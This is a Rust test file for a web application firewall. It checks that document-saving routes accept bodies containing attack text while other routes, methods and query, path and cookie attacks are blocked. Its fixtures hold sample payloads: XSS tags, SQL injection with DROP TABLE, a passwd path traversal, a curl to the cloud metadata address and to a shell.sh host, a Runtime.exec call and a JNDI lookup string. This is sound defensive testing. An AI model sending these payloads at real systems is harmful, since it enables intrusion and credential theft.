//! R2.3 with the repository's own configuration: saving a document passes, an attack on the same route does not.

use std::collections::BTreeMap;

use waf_rules::{DecisionAction, Firewall, INCLUDED_CAPACITY, Request};

use crate::templates::config;

fn firewall() -> Firewall {
    let config = config();
    let production = config.environment("production").unwrap();
    assert!(production.waf.enabled);
    stack_model::firewall(&config, production).unwrap()
}

/// What people write about software, larger than a load balancer lets WAF see.
fn document() -> String {
    let text = r#"
# Incident report
<script>alert("hello")</script> and <img src=x onerror=alert(1)> came in through the form.

    SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users;
    cat ../../../../etc/passwd
    curl http://169.254.169.254/latest/meta-data/ http://192.0.2.7/shell.sh
    (java.lang.Runtime).getRuntime().exec("whoami")
    ${jndi:ldap://example.com/a}
"#;
    format!("{text}{}", "Lorem ipsum. ".repeat(160_000))
}

fn save(path: &str) -> Request {
    Request {
        method: "PUT".to_owned(),
        host: "specboard.io".to_owned(),
        path: path.to_owned(),
        headers: BTreeMap::from([("User-Agent".to_owned(), "Mozilla/5.0".to_owned())]),
        body: document(),
        ..Request::default()
    }
}

#[test]
fn a_document_is_saved_whatever_is_in_it() {
    for path in ["/api/documents/42", "/mcp"] {
        let decision = firewall().evaluate(&save(path));
        assert_eq!(decision.action, DecisionAction::Allow, "{path}: {decision:?}");
        // The rules looked at it and would have blocked it.
        assert!(
            decision.labels.iter().any(|label| label.ends_with("CrossSiteScripting_Body")),
            "{decision:?}"
        );
    }
}

#[test]
fn the_same_body_is_blocked_on_every_other_route() {
    for path in ["/api/users", "/oauth/token", "/", "/api/documents-of-others", "/mcp/health"] {
        let decision = firewall().evaluate(&save(path));
        assert_eq!(decision.action, DecisionAction::Block, "{path}: {decision:?}");
    }
    // And with a method that saves nothing.
    let delete = Request { method: "DELETE".to_owned(), ..save("/api/documents/42") };
    assert_eq!(firewall().evaluate(&delete).action, DecisionAction::Block);
}

#[test]
fn an_attack_on_the_route_that_saves_documents_is_blocked() {
    let plain = Request { body: "# Notes".to_owned(), ..save("/api/documents/42") };
    assert_eq!(firewall().evaluate(&plain).action, DecisionAction::Allow);
    let attacks = [
        Request { query: "q=<script>alert(1)</script>".to_owned(), ..plain.clone() },
        Request { query: "id=1'+OR+1=1--".to_owned(), ..plain.clone() },
        Request { path: "/api/documents/../../etc/passwd".to_owned(), ..plain.clone() },
        Request {
            headers: BTreeMap::from([
                ("User-Agent".to_owned(), "Mozilla/5.0".to_owned()),
                ("Cookie".to_owned(), "session=<script>alert(1)</script>".to_owned()),
            ]),
            ..plain.clone()
        },
        Request { requests_from_source: 2_001, ..plain },
    ];
    for attack in attacks {
        let decision = firewall().evaluate(&attack);
        assert_eq!(
            decision.action,
            DecisionAction::Block,
            "{} {:?}: {decision:?}",
            attack.path,
            attack.query
        );
    }
}

#[test]
fn programs_without_a_user_agent_reach_only_mcp() {
    let anonymous = |path: &str| Request {
        method: "POST".to_owned(),
        path: path.to_owned(),
        body: "{}".to_owned(),
        ..Request::default()
    };
    assert_eq!(firewall().evaluate(&anonymous("/mcp")).action, DecisionAction::Allow);
    assert_eq!(firewall().evaluate(&anonymous("/api/documents")).action, DecisionAction::Block);
}

#[test]
fn the_rules_fit_into_what_the_price_includes() {
    let capacity = firewall().capacity();
    assert!((1_102..=INCLUDED_CAPACITY).contains(&capacity), "{capacity}");
}
